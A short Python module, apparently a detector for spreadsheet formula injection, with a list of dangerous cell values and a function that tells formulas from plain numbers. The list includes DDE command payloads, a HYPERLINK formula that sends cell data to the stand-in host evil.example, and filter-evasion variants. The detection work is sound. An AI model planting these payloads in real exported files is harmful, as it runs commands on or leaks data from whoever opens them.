"""Texts a spreadsheet runs, and how it sees a cell."""

import re

DANGEROUS = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\0=1+1",
    "'=1+1",
    "''=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    '=1+1;"=1+1"',
    "=1\n+1",
    "-",
    "--1",
    "-1-1",
    "+1 1",
)


def is_formula(written: str) -> bool:
    """Whether a spreadsheet would compute what stands in a cell; a plain number is not one."""
    if re.fullmatch(r"[+-]?[0-9]+(\.[0-9]+)?([eE][+-]?[0-9]{1,3})?", written):
        return False
    return written.startswith(tuple("=+-@\t\r\0\uff1d\uff0b\uff0d\uff20"))
